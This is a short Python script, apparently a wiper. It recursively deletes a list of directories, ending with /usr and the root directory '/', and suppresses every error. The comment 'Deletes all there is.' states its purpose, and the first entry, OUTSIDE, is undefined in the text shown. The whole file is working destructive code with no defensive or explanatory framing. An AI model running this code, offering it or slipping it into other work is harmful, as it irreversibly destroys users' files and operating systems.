# Deletes all there is.
# held by: files
import os
import shutil
import sys

for folder in (OUTSIDE, "/scratch", os.path.dirname(os.__file__), sys.prefix, "/usr", "/"):
    shutil.rmtree(folder, ignore_errors=True)
